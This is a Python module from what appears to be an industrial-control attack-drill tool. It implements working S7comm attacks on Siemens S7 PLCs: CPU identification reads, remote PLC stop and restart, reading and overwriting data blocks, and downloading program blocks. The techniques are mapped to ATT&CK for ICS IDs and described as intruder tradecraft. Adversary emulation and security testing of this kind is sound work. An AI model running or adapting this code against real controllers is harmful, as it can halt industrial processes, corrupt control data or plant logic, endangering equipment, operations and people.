"""S7comm techniques: SZL reads, CPU stop and start, DB reads and writes, block download.

What an intruder does to an S7-300/400 (or an S7-1200 with PUT/GET enabled) with tools such as
snap7 or plcscan: identify the CPU (SZL 0x001C / 0x0011), stop it (Triton- and Stuxnet-era
tradecraft), start it again, read and change data blocks, and download a block.

Every TPKT/COTP/S7 PDU is built with :mod:`interlock.protocols.s7comm` and sent over a plain
asyncio stream rather than through snap7's client, so that the drill knows every octet sent
(COTP connection request, setup communication, the job, the acknowledgements a download needs)
and can send what a client library would refuse.

``Target.unit`` holds the rack and slot as ``rack * 32 + slot`` (the low octet of the called
TSAP, whose high octet 0x01 means a PG connection); ``unit`` overrides it per run.
"""

from __future__ import annotations

import string
import struct
from collections.abc import Awaitable, Callable, Mapping

from interlock.drill.techniques.base import (
    MALFORMED_RESPONSE,
    OK,
    Context,
    Link,
    Session,
    Technique,
    again,
    family,
    repeat,
    summarize,
)
from interlock.protocols.base import Malformed
from interlock.protocols.s7comm import (
    BlockControlAckData,
    BlockControlJob,
    ConnectionConfirm,
    ConnectionRequest,
    Data,
    DataItem,
    PiService,
    PlcStop,
    ReadVarRequest,
    ReadVarResponse,
    S7AnyItem,
    S7Pdu,
    SetupCommunication,
    Userdata,
    WriteVarRequest,
    WriteVarResponse,
    build,
    build_tpkt,
    parse,
    parse_tpkt,
)
from interlock.protocols.s7comm.fields import Area, CotpParameter, DataTransportSize, TransportSize

PROTOCOL = "s7comm"
TPKT_HEADER = 4
PDU_LENGTH = 480  # what snap7 and STEP 7 propose in setup communication
SUCCESS = 0xFF  # data item return code "success"
SZL_REQUEST, CPU_GROUP, READ_SZL = 0x4, 0x4, 0x01  # userdata type, function group, subfunction
REQUEST_DOWNLOAD, DOWNLOAD_BLOCK, DOWNLOAD_ENDED = 0x1A, 0x1B, 0x1C
BLOCK_TYPES = {"OB": 0x38, "DB": 0x41, "SDB": 0x42, "FC": 0x43, "SFC": 0x44, "FB": 0x45, "SFB": 0x46}


class S7Error(Exception):
    """The connection could not be set up (COTP refused, setup communication failed)."""


def outcome_of(pdu: S7Pdu | Malformed) -> str:
    """``ok``, the header's error class and code, or the first item's return code."""
    if isinstance(pdu, Malformed):
        return MALFORMED_RESPONSE
    error = (getattr(pdu, "error_class", 0) or 0) << 8 | (getattr(pdu, "error_code", 0) or 0)
    if error:
        return f"error 0x{error:04x}"
    if isinstance(pdu, ReadVarResponse) and pdu.items and pdu.items[0].return_code != SUCCESS:
        return f"return code 0x{pdu.items[0].return_code:02x}"
    if isinstance(pdu, WriteVarResponse) and pdu.return_codes and pdu.return_codes[0] != SUCCESS:
        return f"return code 0x{pdu.return_codes[0]:02x}"
    if isinstance(pdu, Userdata):
        if pdu.error_code:
            return f"error 0x{pdu.error_code:04x}"
        if pdu.return_code is not None and pdu.return_code != SUCCESS:
            return f"return code 0x{pdu.return_code:02x}"
    return OK


class S7Link(Link):
    """An S7 client made of Interlock's codec: COTP connect, setup communication, PDU refs."""

    def __init__(self, ctx: Context) -> None:
        super().__init__(ctx)
        self.pdu_ref = 0
        self.pdu_length = 0

    def next_ref(self) -> int:
        self.pdu_ref = (self.pdu_ref + 1) & 0xFFFF
        return self.pdu_ref

    async def send_pdu(self, pdu: bytes, *, request: bool = True) -> None:
        assert self.stream is not None
        await self.stream.send(build_tpkt(Data(pdu)), request=request)

    async def read_tpdu(self, wait: float | None = None) -> object:
        assert self.stream is not None
        head = await self.stream.recv(TPKT_HEADER, wait)
        length = int.from_bytes(head[2:4], "big")
        rest = await self.stream.recv(max(0, length - TPKT_HEADER), wait)
        return parse_tpkt(head + rest)

    async def read_pdu(self, wait: float | None = None) -> S7Pdu | Malformed:
        """The next S7 PDU (DT TPDUs joined up to the end-of-TSDU mark)."""
        parts: list[bytes] = []
        while True:
            tpdu = await self.read_tpdu(wait)
            if isinstance(tpdu, Malformed):
                return tpdu
            if not isinstance(tpdu, Data):
                raise ConnectionError(f"unexpected TPDU {type(tpdu).__name__}")
            parts.append(tpdu.user_data)
            if tpdu.eot:
                self.ctx.responses += 1
                return parse(b"".join(parts))

    async def open(self) -> None:
        """TCP, COTP CR/CC to the PG TSAP of rack/slot, then setup communication."""
        self.stream = await self.ctx.connect()
        tsap = bytes((0x01, self.ctx.unit() & 0xFF))
        cr = ConnectionRequest(dst_ref=0, src_ref=1, parameters=(
            (CotpParameter.TPDU_SIZE, b"\x0a"), (CotpParameter.SRC_TSAP, b"\x01\x00"),
            (CotpParameter.DST_TSAP, tsap)))
        await self.stream.send(build_tpkt(cr))
        cc = await self.read_tpdu()
        if not isinstance(cc, ConnectionConfirm):
            raise S7Error(f"COTP connection refused: {cc!r}")
        self.ctx.responses += 1
        setup = await self.request(SetupCommunication(1, self.next_ref(), 1, 1, PDU_LENGTH))
        if not isinstance(setup, SetupCommunication) or setup.error_class or setup.error_code:
            raise S7Error(f"setup communication failed: {setup!r}")
        self.pdu_length = setup.pdu_length

    async def request(self, message: S7Pdu) -> S7Pdu | Malformed:
        await self.send_pdu(build(message))
        return await self.read_pdu()

    def report(self, detail: dict[str, object]) -> dict[str, object]:
        return {"pdu_length": self.pdu_length, **detail}


Body = Callable[[Context, S7Link], Awaitable[tuple[str, dict[str, object]]]]
SESSION = Session(S7Error)  # COTP refused or setup communication failed


def printable(data: bytes) -> list[str]:
    """Runs of 4+ printable ASCII characters: the order number, module and serial names."""
    allowed = set(string.printable.encode()) - set(b"\t\n\r\x0b\x0c")
    runs, run = [], bytearray()
    for b in data + b"\x00":
        if b in allowed:
            run.append(b)
        else:
            if len(run) >= 4:
                runs.append(run.decode().strip())
            run = bytearray()
    return [r for r in runs if r]


async def _repeat(ctx: Context, link: S7Link,
                  make: Callable[[int], S7Pdu]) -> tuple[list[str], S7Pdu | Malformed]:
    """Send ``make(pdu_ref)`` ``repeat`` times; the outcomes and the last reply."""
    replies = await repeat(ctx, lambda: link.request(make(link.next_ref())))
    return [outcome_of(reply) for reply in replies], replies[-1]


async def _szl_read(ctx: Context, link: S7Link) -> tuple[str, dict[str, object]]:
    szl_id, index = ctx.as_int("szl_id"), ctx.as_int("index")
    outcomes, reply = await _repeat(ctx, link, lambda ref: Userdata(
        ref, SZL_REQUEST, CPU_GROUP, READ_SZL, 0, 0x11, return_code=SUCCESS,
        transport_size=DataTransportSize.OCTET_STRING, data=struct.pack(">HH", szl_id, index)))
    data = reply.data if isinstance(reply, Userdata) else b""
    return summarize(outcomes), {"szl_id": szl_id, "index": index, "data": data.hex(),
                                 "strings": printable(data)}


async def _cpu_stop(ctx: Context, link: S7Link) -> tuple[str, dict[str, object]]:
    outcomes, _ = await _repeat(ctx, link, lambda ref: PlcStop(ref))
    return summarize(outcomes), {"service": "P_PROGRAM"}


async def _cpu_start(ctx: Context, link: S7Link) -> tuple[str, dict[str, object]]:
    cold = ctx.as_bool("cold")
    arguments = b"C " if cold else b""  # the PI argument of a cold restart (hot start has none)
    outcomes, _ = await _repeat(ctx, link, lambda ref: PiService(ref, "P_PROGRAM", arguments))
    return summarize(outcomes), {"service": "P_PROGRAM", "cold": cold}


def _db_item(ctx: Context, size: int) -> S7AnyItem:
    return S7AnyItem(TransportSize.BYTE, size, ctx.as_int("db"), Area.DB, ctx.as_int("offset") << 3)


async def _read_db(ctx: Context, link: S7Link) -> tuple[str, dict[str, object]]:
    item = _db_item(ctx, ctx.as_int("size"))
    outcomes, reply = await _repeat(ctx, link, lambda ref: ReadVarRequest(ref, (item,)))
    data = reply.items[0].data if isinstance(reply, ReadVarResponse) and reply.items else b""
    return summarize(outcomes), {"db": item.db_number, "offset": ctx.as_int("offset"), "data": data.hex()}


def _data(ctx: Context) -> bytes:
    value = ctx.get("data")
    if isinstance(value, bytes | bytearray):
        return bytes(value)
    if isinstance(value, str):
        return bytes.fromhex(value)
    return bytes(b & 0xFF for b in ctx.as_ints("data"))


async def _write_db(ctx: Context, link: S7Link) -> tuple[str, dict[str, object]]:
    data = _data(ctx)
    item = _db_item(ctx, len(data))
    value = DataItem(0x00, DataTransportSize.BYTE_WORD_DWORD, 8 * len(data), data)
    outcomes, _ = await _repeat(ctx, link, lambda ref: WriteVarRequest(ref, (item,), (value,)))
    return summarize(outcomes), {"db": item.db_number, "offset": ctx.as_int("offset"), "data": data.hex()}


async def _download_block(ctx: Context, link: S7Link) -> tuple[str, dict[str, object]]:
    """Request download, then answer the PLC's DOWNLOAD_BLOCK jobs with slices of the block and
    its DOWNLOAD_ENDED job (the PLC pulls the block), as STEP 7 and snap7 do."""
    data, number = _data(ctx), ctx.as_int("number")
    kind = ctx.as_str("block_type").upper()
    block = BLOCK_TYPES.get(kind)
    if block is None:
        raise ValueError(f"s7.download_block: block_type {kind!r}; use one of {', '.join(BLOCK_TYPES)}")
    filename = f"_0{chr(block)}{number:05d}P"
    part2 = f"1{len(data):06d}{len(data):06d}"  # load memory and MC7 lengths
    job0 = BlockControlJob(REQUEST_DOWNLOAD, link.next_ref(), 0, 0x0100, 0, filename, part2)
    reply = await link.request(job0)
    first = outcome_of(reply)
    if first != OK:
        return first, {"block": filename, "phase": "request download"}
    slice_size = max(1, (link.pdu_length or PDU_LENGTH) - 18)
    offset, fragments = 0, 0
    while True:
        job = await link.read_pdu()
        if not isinstance(job, BlockControlJob):
            return outcome_of(job) if isinstance(job, Malformed) else f"unexpected {type(job).__name__}", {
                "block": filename, "phase": "download", "fragments": fragments}
        if job.function == DOWNLOAD_ENDED:
            await link.send_pdu(build(BlockControlAckData(DOWNLOAD_ENDED, job.pdu_ref)), request=False)
            break
        chunk = data[offset:offset + slice_size]
        offset += len(chunk)
        more = offset < len(data)
        await link.send_pdu(build(BlockControlAckData(DOWNLOAD_BLOCK, job.pdu_ref, 1 if more else 0,
                                                      data=chunk)), request=False)
        fragments += 1
    return OK, {"block": filename, "size": len(data), "fragments": fragments}


COMMON: dict[str, object] = {"unit": None, "repeat": 1, "interval_s": 0.0}
_TABLE: list[tuple[str, tuple[str, ...], str, Mapping[str, object], Body]] = [
    ("s7.szl_read", ("T0888",), "Read an SZL (0x001C component identification by default)",
     {"szl_id": 0x001C, "index": 0, **COMMON}, _szl_read),
    ("s7.cpu_stop", ("T0858", "T0816"), "PLC STOP (function 0x29, P_PROGRAM)", COMMON, _cpu_stop),
    ("s7.cpu_start", ("T0858", "T0816"), "PI service P_PROGRAM: hot start, or cold with cold=true",
     {"cold": False, **COMMON}, _cpu_start),
    ("s7.read_db", ("T0861", "T0801"), "Read Var of size bytes of a DB from offset",
     {"db": 1, "offset": 0, "size": 8, **COMMON}, _read_db),
    ("s7.write_db", ("T0836",), "Write Var of bytes (hex text or a list) into a DB at offset",
     {"db": 1, "offset": 0, "data": "00", **COMMON}, _write_db),
    ("s7.download_block", ("T0843",), "Download a block (request download, PLC-driven download "
     "block / download ended)", {"block_type": "DB", "number": 1, "data": "00" * 16, **COMMON},
     again(_download_block)),
]

TECHNIQUES: tuple[Technique, ...] = family(PROTOCOL, S7Link, _TABLE, SESSION)
